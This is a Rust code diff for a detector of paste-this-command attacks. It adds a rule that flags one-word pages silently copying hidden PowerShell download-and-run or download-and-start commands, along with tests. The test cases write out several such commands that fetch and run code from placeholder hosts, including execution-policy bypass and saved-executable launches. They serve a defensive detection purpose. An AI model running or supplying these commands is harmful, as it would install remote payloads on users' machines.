@@ -1561,6 +1561,8 @@ pub struct PageHits {
     /// A page of a few words whose first line is a check's status and none of whose lines names
     /// what it checks (see [`check_status`]).
     status: bool,
+    /// The page's visible text (its title aside) is one word at most: a lone button.
+    lone: bool,
 }
 
 /// Whether a flattened line starting with a check stem is a status: the stem ending its word or
@@ -1643,6 +1645,7 @@ impl PageHits {
             cut: false,
             help: false,
             status,
+            lone: false,
         }
     }
 
@@ -2211,6 +2214,7 @@ fn page_of(snap: &Snapshot, text: &str, alt_texts: &[String], dialogs: &[String]
         .into_iter()
         .chain(alt_texts.iter().chain(dialogs).map(String::as_str));
     let mut page = PageHits::new(parts).on(&snap.url);
+    page.lone = text.split_whitespace().nth(1).is_none();
     // Within 1 KB of the bound: the content script stops at a node's edge.
     page.cut = snap.text.len() + 1024 > crate::snapshot::MAX_TEXT_BYTES;
     page
@@ -2445,6 +2449,22 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
     });
     // (A self-hosted server's page on its own address copies from there.)
     let own_ip = page.site.len() > 3 && has(&command.flat, &page.site);
+    let hidden_run = command.shapes.contains(&Shape::PowerShellHidden)
+        && command.shapes.contains(&Shape::PowerShellDownload);
+    // A page whose visible text is one word, its button ("Weiter", "Continuer", "次へ", even
+    // "Copy"), the steps in a picture or nowhere, copying what it does not show: a hidden-window
+    // download run, or a program saved and started (`curl -o x.exe … && start x.exe`, `curl … |
+    // cmd`), from another site's unnamed path (review 44 R44-H3). A vendor's lone "Setup" or
+    // "Deploy" button fetches a named `.ps1`/`.msi` (`published`); a page of two words is a
+    // portal's heading and its button (review 43 CF43-H1), a tool's "Tools" page copies a plain
+    // `iwr … | iex`.
+    let unasked = page.lone
+        && !command.published
+        && (hidden_run
+            || command.shapes.iter().any(|s| {
+                *s == Shape::DownloadStart
+                    || *s == Shape::Cmd && command.remote && has(&command.flat, "| cmd")
+            }));
     let terse = page.flat.len() <= TERSE_PAGE
         // (From the internet: a join command to a private address is the person's network.)
         && (fetch > 0 || !command.https_sites.is_empty())
@@ -2452,12 +2472,13 @@ fn assess_command(command: Command, page: &PageHits, typed: bool) -> Option<Clic
         && !command.fetches_from_owned(&page.site)
         && !own_ip
         && page.weight(Cat::InstallDocs) < 1.0
-        && (command.shapes.contains(&Shape::PowerShellHidden)
-            && command.shapes.contains(&Shape::PowerShellDownload)
+        && (hidden_run
             || command.runs_on(Platform::Unix)
             || lolbin
-            || command.buried)
+            || command.buried
+            || unasked)
         && (told
+            || unasked
             || verify > 0.0
             || !page.flat.bytes().any(|b| b.is_ascii_alphanumeric() || b > 127)
             // (Whole words, and a moment only as a wait: a tool's "Robotics SDK", "Ressources
@@ -2860,6 +2881,101 @@ mod tests {
             "deno eval \"console.log(Deno.version)\"",
         ] {
             assert!(shapes_of(clip).is_empty(), "{clip}");
+        }
+    }
+
+    #[test]
+    fn review44_a_lone_button_copies_what_no_one_asked_for() {
+        // R44-H3: a page whose visible text is one button that names no check ("Weiter",
+        // "Continuer", "Kontynuuj", "次へ", the lone word "Copy"), the steps in a picture or
+        // nowhere, copying a hidden-window download run or a program saved and started, from
+        // another site's unnamed path, that it does not show. Each was silent before.
+        let cases = [
+            (
+                "",
+                "Weiter",
+                "powershell -WindowStyle Hidden -Command \"iex (irm https://relay.test/d)\"",
+            ),
+            (
+                "Facture",
+                "Continuer",
+                "cmd /c curl -s https://relay.test/x.cmd | cmd",
+            ),
+            (
+                "Faktura",
+                "Kontynuuj",
+                "powershell -w 1 -ep bypass -c \"iwr https://relay.test/p -useb | iex\"",
+            ),
+            (
+                "",
+                "Copy",
+                "powershell -w hidden -c \"iex(iwr https://relay.test/c)\"",
+            ),
+            (
+                "請求書",
+                "次へ",
+                "cmd /c curl -so %TEMP%\\u.exe https://relay.test/u.exe && start %TEMP%\\u.exe",
+            ),
+        ];
+        for (title, label, clip) in cases {
+            let at = "https://gate.example/";
+            assert!(
+                reasons(&snap_of(at, title, label, clip)).is_some(),
+                "{label} {clip}"
+            );
+            // Not so: two words (a portal's heading and its button), the command shown, the
+            // page's own site, a plain `iwr … | iex`.
+            for (url, text, clip) in [
+                (at, format!("Rechnung {label}"), clip.to_string()),
+                (at, format!("{label}\n{clip}"), clip.to_string()),
+                ("https://relay.test/", label.to_string(), clip.to_string()),
+                (
+                    at,
+                    label.into(),
+                    "powershell -c \"iwr https://relay.test/k | iex\"".into(),
+                ),
+            ] {
+                assert_eq!(
+                    reasons(&snap_of(url, title, &text, &clip)),
+                    None,
+                    "{text} {clip}"
+                );
+            }
+        }
+        // A named script: a vendor's installer.
+        let named = "powershell -w hidden -c \"iex(iwr https://relay.test/c.ps1)\"";
+        assert_eq!(
+            reasons(&snap_of("https://gate.example/", "", "Copy", named)),
+            None
+        );
+        // A vendor's lone button: a named script or package, its own CDN; a Unix installer.
+        for (url, label, clip) in [
+            (
+                "https://portal.rmm.example/",
+                "Deploy",
+                "powershell -w hidden -c \"iwr https://dl.agentcdn.example/a.ps1 -useb | iex\"",
+            ),
+            (
+                "https://notes.example/",
+                "Setup",
+                "irm https://raw.codehost.example/notes/setup.ps1 | iex",
+            ),
+            (
+                "https://app.notewise.example/",
+                "Enroll",
+                "powershell -w hidden -c \"iwr https://dl.notewise-cdn.example/s -useb|iex\"",
+            ),
+            (
+                "https://cli.example/",
+                "Run",
+                "curl -fsSL https://relay.test/a.sh | bash",
+            ),
+        ] {
+            assert_eq!(
+                reasons(&snap_of(url, "", label, clip)),
+                None,
+                "{label} {clip}"
+            );
         }
     }
 
